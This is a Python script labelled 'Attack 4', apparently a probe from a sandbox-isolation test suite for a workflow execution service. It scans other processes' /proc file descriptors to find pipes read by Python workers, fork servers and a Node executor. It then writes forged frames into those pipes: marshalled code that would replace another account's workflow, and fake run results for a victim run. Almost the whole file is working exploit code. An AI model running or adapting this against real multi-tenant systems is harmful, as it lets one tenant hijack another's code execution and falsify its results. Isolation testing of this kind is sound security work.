# Attack 4: write into the pipes of the server's processes through /proc/<pid>/fd/<n>: to every
# pipe a Python process reads (a worker, a fork server, a spare, the victim), a fork-server request
# that would replace the compiled code of account A's echo workflow in every child forked later, and
# a run's result frame (the victim's, as its worker reads it); then, to the pipes the Executor (Node)
# reads from a Python process, the victim's result as a worker reports it. Node's other pipes are
# left alone: its event loop's own pipes would only crash it. Host pids and A's ids given.
import marshal


def execute(ctx):
    rep = Report(ctx)
    me = os.getpid()
    mine = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            mine.add(os.readlink("/proc/self/fd/" + fd))
        except OSError:
            pass
    forged = {"who": "B", "pwned": True}
    code = compile("def execute(ctx):\n    return %r\n" % (forged,), "workflow.py", "exec")
    result = json.dumps({"t": "result", "output": forged, "usage": {}}).encode()
    to_python = [
        # A fork server's request: a version's compiled code.
        frame(json.dumps({"t": "code", "version_id": ctx.input["a_version_id"]}).encode() + b"\n" + marshal.dumps(code)),
        # A run's last frame as its worker reads it, in the protocol's older and current forms.
        frame(result),
        frame(b"R" + json.dumps({"output": forged, "usage": {}}).encode()),
    ]
    run_id = ctx.input["victim_run_id"].encode()
    # A worker's frame as the Executor reads it: the run id, then the event (older and current forms).
    to_node = [frame(run_id + b"\n" + result), frame(run_id + b"\nR" + json.dumps({"output": forged, "usage": {}}).encode())]
    ends = []  # (pid, comm, fd path, pipe, reads)
    for pid in [int(p) for p in ctx.input["pids"] if int(p) != me]:
        base = "/proc/%d" % pid
        try:
            comm = read_file(base + "/comm").decode().strip()
            fds = os.listdir(base + "/fd")
        except OSError as e:
            rep.add("list the descriptors of %d" % pid, False, describe(e))
            continue
        rep.add("list the descriptors of %d (%s)" % (pid, comm), True, "%d descriptors" % len(fds))
        for fd in fds:
            path = "%s/fd/%s" % (base, fd)
            try:
                target = os.readlink(path)
                flags = int(re.search(r"flags:\s*(\d+)", read_file("%s/fdinfo/%s" % (base, fd)).decode()).group(1), 8)
            except (OSError, AttributeError):
                continue
            if target.startswith("pipe:") and target not in mine:
                ends.append((pid, comm, path, target, flags & 3 == os.O_RDONLY))
    fed_by_python = {pipe for _, comm, _, pipe, reads in ends if not reads and not comm.startswith("node")}
    for pid, comm, path, pipe, reads in sorted(ends, key=lambda e: e[1].startswith("node")):
        if not reads:
            continue
        if comm.startswith("node"):
            if pipe in fed_by_python:
                rep.run("write into %s (%s, read by node from a worker)" % (path, pipe), lambda path=path: _write(path, to_node))
        else:
            rep.run("write into %s (%s, read by %s)" % (path, pipe, comm), lambda path=path: _write(path, to_python))
    return {"attempts": rep.attempts}


def _write(path, bodies):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        n = sum(os.write(fd, body) for body in bodies)
    finally:
        os.close(fd)
    return "wrote %d bytes" % n
